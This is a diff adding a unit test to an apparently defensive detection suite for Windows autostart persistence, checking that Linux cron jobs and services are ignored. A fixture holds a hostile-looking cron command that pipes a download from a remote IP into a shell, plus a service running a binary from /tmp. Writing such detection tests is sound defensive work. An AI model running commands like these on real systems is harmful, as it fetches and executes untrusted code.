@@ -46,6 +46,22 @@ describe('what Windows starts by itself', () => {
     expect(await findingsOf(analytic, [event('registry', { ...set, registry_path: run, ...fields })])).toEqual([]);
   });
 
+  it('leaves jobs and services of Linux to their own analytic', async () => {
+    const created = { event_action: 'created', host_name: 'web1', task_type: 'task' } as const;
+    const job = event('scheduled_task', {
+      ...created,
+      task_name: '/etc/cron.d/x',
+      task_command: 'curl http://203.0.113.7/x | sh',
+    });
+    const service = event('scheduled_task', {
+      ...created,
+      task_type: 'service',
+      task_name: 'x',
+      task_command: '/tmp/x',
+    });
+    expect(await findingsOf(analytic, [job, service])).toEqual([]);
+  });
+
   it('tells a log-on script in a temporary folder', async () => {
     const [finding] = await findingsOf(analytic, [
       event('registry', {
